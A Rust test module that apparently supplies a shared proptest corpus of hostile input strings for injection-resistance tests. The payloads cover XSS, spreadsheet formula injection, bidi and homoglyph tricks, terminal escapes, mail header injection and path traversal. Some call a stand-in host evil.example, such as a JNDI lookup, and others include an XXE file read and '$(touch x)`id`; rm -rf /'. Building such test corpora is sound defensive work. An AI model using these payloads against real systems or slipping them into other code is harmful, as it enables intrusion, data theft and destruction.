//! The one list of texts that attack whoever reads them, for every test of hostile text.

use proptest::prelude::*;

/// Texts as an attacker would choose them, by what they are aimed at.
const CORPUS: &[&str] = &[
    // Pages.
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "</script><script>alert(1)//",
    "</style><style>*{display:none}",
    "</title><svg/onload=alert(1)>",
    "<!-- <b>",
    "--><i>",
    "]]><u>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "&lt;b&gt;&#x3c;b&#62;",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    // Spreadsheets.
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=cmd|'/c calc'!A1",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "＝1",
    "＠x",
    "_x0041_",
    "a,b;c\"d\"",
    "'x",
    // Eyes.
    "\u{202e}gpj.exe",
    "\u{2066}x\u{2069}\u{202a}",
    "a\u{200b}b\u{200d}\u{2060}",
    "\u{feff}x",
    "\u{ad}soft",
    "שלום",
    "مرحبا ﷺ",
    "👩‍👩‍👧‍👦🏳️‍🌈🇩🇪",
    "\u{2028}x\u{2029}y\u{85}z",
    "\u{e000}\u{10ffff}",
    "Раураl",
    // Terminals.
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;owned\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\x\u{1b}]8;;\u{1b}\\",
    "\u{9b}31m\u{9d}0;x\u{9c}",
    "\u{7f}\u{8}\u{8}\u{8}",
    "\u{c}\u{b}\u{e}",
    // Mails and protocols.
    "x\r\nBcc: victim@example.com",
    "x\nSubject: y\n\nbody",
    "x\r\n.\r\nMAIL FROM:<a@b.example>",
    "=?utf-8?B?PHNjcmlwdD4=?=",
    "=3D=0D=0A=\r\n",
    "--=boundary--",
    "\" <a@b.example>, \"",
    "(a comment",
    // Names of files.
    "../../../etc/passwd",
    "..\\..\\x",
    "/etc/passwd",
    "CON",
    "NUL.txt",
    "aux:x",
    ".",
    "..",
    "~root",
    "-rf",
    // Templates, shells, formats.
    "%s%n%x%00",
    "${jndi:ldap://evil.example}",
    "{{ 7*7 }}",
    "{% include 'x' %}",
    "{# x",
    "{name}{place}{n}",
    "$(touch x)`id`; rm -rf /",
    "\\u{1}\\n\\",
    // XML and JSON.
    "&xxe;",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "\u{fffe}\u{ffff}\u{fdd0}",
    "\u{1}\u{1f}",
    "null",
    "\",\"x\":\"",
    "\\ud800",
    // PDF.
    ") Tj ET endstream endobj",
    "(((\\(",
    "<</S/JavaScript/JS(app.alert(1))>>",
    "%PDF-1.7 %%EOF",
    // Numbers that are none.
    "NaN",
    "1e9999",
    "-0",
    "00:01",
];

/// All of them, with those that are too long to be written down.
pub(crate) fn corpus() -> Vec<String> {
    let mut all: Vec<String> = CORPUS.iter().map(|text| (*text).to_owned()).collect();
    all.push("n".repeat(5000));
    all.push(format!("e{}", "\u{301}".repeat(600)));
    all.push("😀".repeat(400));
    all.push("<b>".repeat(200));
    all
}

/// One to four of them, one after the other, some cut in their middle.
pub(crate) fn combined() -> impl Strategy<Value = String> {
    let piece = (prop::sample::select(corpus()), any::<prop::sample::Index>(), any::<bool>());
    let piece = piece.prop_map(|(text, at, whole)| {
        let letters = text.chars().count();
        let kept = if whole { letters } else { at.index(letters) + 1 };
        text.chars().take(kept).collect::<String>()
    });
    prop::collection::vec(piece, 1..=4).prop_map(|pieces| pieces.concat())
}
